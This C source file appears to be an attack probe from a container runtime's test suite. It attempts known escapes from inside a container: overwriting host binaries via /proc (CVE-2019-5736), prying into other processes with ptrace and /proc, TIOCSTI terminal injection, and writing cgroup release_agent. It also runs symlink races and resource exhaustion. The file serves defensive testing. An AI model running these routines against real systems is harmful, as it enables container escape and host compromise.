// container-probe: what a hostile program tries, mostly from inside a container. The first word says what; it writes what
// came of it. Static, as a container has no library of ours.
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <linux/keyctl.h>
#include <linux/sched.h>
#include <net/if.h>
#include <netinet/in.h>
#include <sched.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/mount.h>
#include <sys/prctl.h>
#include <sys/ptrace.h>
#include <sys/resource.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/uio.h>
#include <sys/un.h>
#include <sys/wait.h>
#include <unistd.h>

int advertise(const char *link);

enum { MOST_PROCESSES = 1 << 16 };

static int open_of(int pid, const char *name, int flags) {
    char path[64];
    snprintf(path, sizeof path, "/proc/%d/%s", pid, name);
    return open(path, flags | O_CLOEXEC);
}

static int is_alive(int pid) {
    char path[32];
    snprintf(path, sizeof path, "/proc/%d", pid);
    return access(path, F_OK) == 0;
}

// Calls `meet` with each other process once, and `part` once it has gone; for ever. Events go to argv[0]'s file, a FIFO.
static int watch(char **arguments, void (*meet)(int pid, FILE *events), void (*part)(int pid, FILE *events)) {
    static char known[MOST_PROCESSES];
    FILE *events = fopen(arguments[0], "w");
    if (!events) return 1;
    setvbuf(events, NULL, _IOLBF, 0);
    fprintf(events, "watching\n");
    for (;;) {
        DIR *processes = opendir("/proc");
        for (struct dirent *entry; (entry = readdir(processes));) {
            int pid = atoi(entry->d_name);
            if (pid <= 0 || pid >= MOST_PROCESSES || pid == getpid() || known[pid]) continue;
            known[pid] = 1;
            meet(pid, events);
        }
        closedir(processes);
        for (int pid = 1; pid < MOST_PROCESSES; pid++)
            if (known[pid] && !is_alive(pid)) {
                known[pid] = 0;
                part(pid, events);
            }
    }
}

// Holds the program of each process that appears, and writes into it once it is not executed any more (CVE-2019-5736).

static int programs[MOST_PROCESSES];

static void hold_program(int pid, FILE *events) {
    struct stat status;
    int program = open_of(pid, "exe", O_RDONLY);
    if (program < 0) program = open_of(pid, "exe", O_PATH);
    programs[pid] = program;
    if (program >= 0 && fstat(program, &status) == 0)
        fprintf(events, "holds %lu:%lu\n", (unsigned long)status.st_dev, (unsigned long)status.st_ino);
    fprintf(events, "saw\n");
}

static void write_program(int pid, FILE *events) {
    char path[64];
    if (programs[pid] >= 0) {
        snprintf(path, sizeof path, "/proc/self/fd/%d", programs[pid]);
        // Another process may execute it still; it won't for long.
        int writing;
        do { writing = open(path, O_WRONLY | O_CLOEXEC); } while (writing < 0 && errno == ETXTBSY);
        if (writing >= 0 && write(writing, "OVERWRITTEN", 11) == 11) fprintf(events, "wrote\n");
        if (writing >= 0) close(writing);
        close(programs[pid]);
    }
    fprintf(events, "gone\n");
}

// Reaches into each process that appears, as long as it isn't yet the program that was asked for (CVE-2016-9962).

static const char *asked;

static int is_asked(int pid) {
    char name[32] = "";
    int file = open_of(pid, "comm", O_RDONLY);
    if (file < 0) return 1;
    long count = read(file, name, sizeof name - 1);
    close(file);
    if (count <= 0) return 1;
    name[strcspn(name, "\n")] = 0;
    return strcmp(name, asked) == 0;
}

// Told after the fact, and only if the process is still what it was: what opens late has opened the asked program.
static void report(int pid, FILE *events, const char *how) {
    if (!is_asked(pid)) fprintf(events, "pried %s\n", how);
}

static void pry(int pid, FILE *events) {
    static const char *const files[] = {"mem", "environ", "auxv", "maps", "stack"};
    static const char *const links[] = {"root", "cwd", "exe"};
    char link[64], byte;
    for (int tries = 0; is_alive(pid) && !is_asked(pid); tries++) {
        if (tries == 0) fprintf(events, "tries\n");
        if (ptrace(PTRACE_SEIZE, pid, 0, 0) == 0) {
            report(pid, events, "seize");
            // Only what has stopped can be let go; and what we trace can't end without us.
            ptrace(PTRACE_INTERRUPT, pid, 0, 0);
            if (waitpid(pid, NULL, __WALL) > 0) ptrace(PTRACE_DETACH, pid, 0, 0);
        }
        struct iovec here = {&byte, 1}, there = {(void *)0x400000, 1};
        if (syscall(SYS_process_vm_readv, pid, &here, 1UL, &there, 1UL, 0UL) == 1 || errno == EFAULT)
            report(pid, events, "process_vm_readv");
        for (int i = 0; i < 5; i++) {
            int file = open_of(pid, files[i], O_RDONLY);
            // maps opens for everyone and is empty then.
            if (file >= 0 && read(file, &byte, 1) == 1) report(pid, events, files[i]);
            if (file >= 0) close(file);
        }
        for (int i = 0; i < 3; i++) {
            int file = open_of(pid, links[i], O_PATH);
            if (file >= 0) report(pid, events, links[i]);
            if (file >= 0) close(file);
        }
        snprintf(link, sizeof link, "/proc/%d/fd", pid);
        DIR *descriptors = opendir(link);
        // Root may list the numbers; it's what they lead to that counts.
        for (struct dirent *entry; descriptors && (entry = readdir(descriptors));) {
            int file = openat(dirfd(descriptors), entry->d_name, O_PATH | O_CLOEXEC);
            if (file >= 0 && *entry->d_name != '.') report(pid, events, "fd");
            if (file >= 0) close(file);
        }
        if (descriptors) closedir(descriptors);
    }
    fprintf(events, "saw\n");
}

static void forget(int pid, FILE *events) {
    (void)pid;
    fprintf(events, "gone\n");
}

// Exchanges a name with a symlink to `target`, until it is killed; as another user where `user` isn't 0.
static int swap(const char *directory, const char *name, const char *target, unsigned user) {
    char spare[256];
    if (user && (setresgid(user, user, user) < 0 || setresuid(user, user, user) < 0)) return 1;
    snprintf(spare, sizeof spare, ".swapped-%s", name);
    int top = open(directory, O_RDONLY | O_DIRECTORY);
    if (top < 0 || (symlinkat(target, top, spare) < 0 && errno != EEXIST)) return 1;
    for (int isFirst = 1;; isFirst = 0) {
        if (syscall(SYS_renameat2, top, spare, top, name, 2 /* RENAME_EXCHANGE */) < 0 && isFirst) return 1;
        if (isFirst) {
            printf("swapping\n");
            fflush(stdout);
        }
    }
}

// A key in a session keyring of its own, which the program after it inherits unless it takes another one.
static int with_key(char **arguments) {
    if (syscall(SYS_keyctl, KEYCTL_JOIN_SESSION_KEYRING, NULL) < 0) return 120;
    if (syscall(SYS_add_key, "user", arguments[0], "HOSTSECRET", 10UL, KEY_SPEC_SESSION_KEYRING) < 0) return 121;
    execv(arguments[1], arguments + 1);
    return 122;
}

static int find_key(const char *description) {
    long key = syscall(SYS_keyctl, KEYCTL_SEARCH, KEY_SPEC_SESSION_KEYRING, "user", description, 0UL);
    if (key < 0) key = syscall(SYS_request_key, "user", description, NULL, 0UL);
    printf(key < 0 ? "no key: %s\n" : "found\n", strerror(errno));
    return 0;
}

// Types into its terminal, also with a bit in the command that the kernel ignores and a filter may not (CVE-2017-5226).
static int push_input(void) {
    for (int descriptor = 0; descriptor < 3; descriptor++)
        for (unsigned long bit = 0; bit <= 1; bit++)
            syscall(SYS_ioctl, (long)descriptor, TIOCSTI | bit << 32, "x");
    int terminal = open("/dev/tty", O_RDWR);
    if (terminal >= 0) syscall(SYS_ioctl, (long)terminal, TIOCSTI | 1UL << 32, "x");
    return 0;
}

// Mounts cgroups writable and writes what would raise its own limits or run a program of its own (CVE-2022-0492).
static int escape_cgroup(int isNested) {
    static const char *const hierarchies[] = {
        "memory", "pids", "cpu,cpuacct", "cpu", "cpuset", "devices", "freezer", "blkio", "rdma", "misc", "hugetlb",
        "net_cls", "perf_event", "none,name=systemd", "none,name=made", "",
    };
    static const char *const files[] = {
        "release_agent", "notify_on_release", "memory.limit_in_bytes", "pids.max", "cpu.cfs_quota_us", "cpuset.cpus",
        "devices.allow", "cgroup.procs", "tasks", "memory.max", "cgroup.subtree_control", "cpu.max",
    };
    static const char *const values[] = {
        "/tmp/x", "1", "-1", "max", "-1", "0-1", "a", "0", "0", "max", "+memory", "max",
    };
    if (isNested && unshare(CLONE_NEWUSER | CLONE_NEWNS | CLONE_NEWCGROUP) < 0) {
        printf("no namespaces: %s\n", strerror(errno));
        return 0;
    }
    mkdir("/tmp/cgroup", 0755);
    for (unsigned i = 0; i < sizeof hierarchies / sizeof *hierarchies; i++) {
        const char *name = hierarchies[i];
        if (mount("cgroup", "/tmp/cgroup", *name ? "cgroup" : "cgroup2", 0, *name ? name : NULL) < 0) continue;
        printf("mounted %s\n", name);
        if (mkdir("/tmp/cgroup/made", 0755) == 0) printf("made a cgroup in %s\n", name);
        for (unsigned j = 0; j < sizeof files / sizeof *files; j++) {
            char path[128];
            snprintf(path, sizeof path, "/tmp/cgroup/%s", files[j]);
            int file = open(path, O_WRONLY);
            if (file >= 0 && write(file, values[j], strlen(values[j])) > 0) printf("wrote %s\n", files[j]);
            if (file >= 0) close(file);
        }
        umount2("/tmp/cgroup", MNT_DETACH);
    }
    printf("done\n");
    return 0;
}

// Memory that no process has mapped.
static int fill_pipes(void) {
    static char page[1 << 16];
    for (int count = 0; count < 4000; count++) {
        int ends[2];
        if (pipe2(ends, O_NONBLOCK) < 0) break;
        fcntl(ends[1], F_SETPIPE_SZ, 1 << 20);
        while (write(ends[1], page, sizeof page) > 0) {}
    }
    printf("filled\n");
    return 0;
}

// Open files, as many as are asked for: in as many processes as it takes, each up to its limit. They stay until they are killed.
static int hold_descriptors(int wanted) {
    int ends[2], held = 0, count;
    if (pipe(ends) < 0) return 1;
    while (held < wanted) {
        pid_t child = fork();
        if (child < 0) return 1;
        if (child == 0) {
            struct rlimit limit;
            if (getrlimit(RLIMIT_NOFILE, &limit) == 0) {
                limit.rlim_cur = limit.rlim_max;
                setrlimit(RLIMIT_NOFILE, &limit);
            }
            for (count = 0; held + count < wanted && open("/dev/null", O_RDONLY) >= 0;) count++;
            if (write(ends[1], &count, sizeof count) < 0) return 1;
            for (;;) pause();
        }
        if (read(ends[0], &count, sizeof count) != sizeof count || count == 0) return 1;
        held += count;
    }
    printf("holds %d\n", held);
    fflush(stdout);
    for (;;) pause();
}

// Directories in one another, whose path is longer than any that a system call takes.
static int deep_tree(int depth) {
    int parent = open("/", O_RDONLY | O_DIRECTORY);
    for (int i = 0; i < depth; i++) {
        if (mkdirat(parent, "xxxxxxxx", 0755) < 0) return 1;
        int child = openat(parent, "xxxxxxxx", O_RDONLY | O_DIRECTORY);
        if (child < 0) return 1;
        close(parent);
        parent = child;
    }
    return 0;
}

// Is the parent of a process of that number, until that ends or this one does.
static int as_process(int pid) {
    pid_t number = pid;
    struct clone_args arguments = {
        .exit_signal = SIGCHLD, .set_tid = (unsigned long)&number, .set_tid_size = 1,
    };
    long child = syscall(SYS_clone3, &arguments, sizeof arguments);
    if (child == 0) {
        prctl(PR_SET_PDEATHSIG, SIGKILL);
        for (;;) pause();
    }
    return child < 0 || waitpid((pid_t)child, NULL, 0) < 0;
}

// Opens each file whose name comes in a line, and writes nothing into it.
static int open_for_writing(void) {
    char path[4096];
    int count = 0;
    for (; fgets(path, sizeof path, stdin); count++) {
        path[strcspn(path, "\n")] = 0;
        int file = open(path, O_WRONLY | O_APPEND | O_NONBLOCK);
        if (file >= 0) printf("opened %s\n", path);
        if (file >= 0) close(file);
    }
    printf("tried %d\n", count);
    return 0;
}

// Joins a multicast group, for as long as it takes to report it (RFC 3810, 9.11: a second).
static int join_group(const char *group, const char *interface) {
    struct ipv6_mreq request = {.ipv6mr_interface = if_nametoindex(interface)};
    int socket_ = socket(AF_INET6, SOCK_DGRAM, 0);
    if (inet_pton(AF_INET6, group, &request.ipv6mr_multiaddr) != 1) return 1;
    if (setsockopt(socket_, IPPROTO_IPV6, IPV6_JOIN_GROUP, &request, sizeof request) < 0) return 1;
    sleep(2);
    return 0;
}

// Says something to a socket, and writes the first answer.
static int ask(const char *path, const char *question) {
    struct sockaddr_un address = {.sun_family = AF_UNIX};
    snprintf(address.sun_path, sizeof address.sun_path, "%s", path);
    int socket_ = socket(AF_UNIX, SOCK_STREAM, 0);
    char answer[256];
    if (connect(socket_, (struct sockaddr *)&address, sizeof address) < 0) return printf("no connection: %s\n", strerror(errno)), 1;
    if (write(socket_, question, strlen(question)) < 0) return 1;
    ssize_t length = read(socket_, answer, sizeof answer);
    printf("%.*s\n", length > 0 ? (int)length : 0, answer);
    return length <= 0;
}

int main(int count, char **arguments) {
    const char *what = count > 1 ? arguments[1] : "";
    if (!strcmp(what, "overwrite-programs") && count == 3) return watch(arguments + 2, hold_program, write_program);
    if (!strcmp(what, "pry") && count == 4) {
        asked = arguments[3];
        return watch(arguments + 2, pry, forget);
    }
    if (!strcmp(what, "swap") && count == 6)
        return swap(arguments[2], arguments[3], arguments[4], (unsigned)atoi(arguments[5]));
    if (!strcmp(what, "with-key") && count >= 4) return with_key(arguments + 2);
    if (!strcmp(what, "find-key") && count == 3) return find_key(arguments[2]);
    if (!strcmp(what, "push-input")) return push_input();
    if (!strcmp(what, "escape-cgroup")) return escape_cgroup(count > 2);
    if (!strcmp(what, "fill-pipes")) return fill_pipes();
    if (!strcmp(what, "hold-descriptors") && count == 3) return hold_descriptors(atoi(arguments[2]));
    if (!strcmp(what, "deep-tree") && count == 3) return deep_tree(atoi(arguments[2]));
    if (!strcmp(what, "advertise") && count == 3) return advertise(arguments[2]);
    if (!strcmp(what, "join-group") && count == 4) return join_group(arguments[2], arguments[3]);
    if (!strcmp(what, "as-process") && count == 3) return as_process(atoi(arguments[2]));
    if (!strcmp(what, "ask") && count == 4) return ask(arguments[2], arguments[3]);
    if (!strcmp(what, "open-for-writing")) return open_for_writing();
    fprintf(stderr, "container-probe: no such attack: %s\n", what);
    return 125;
}
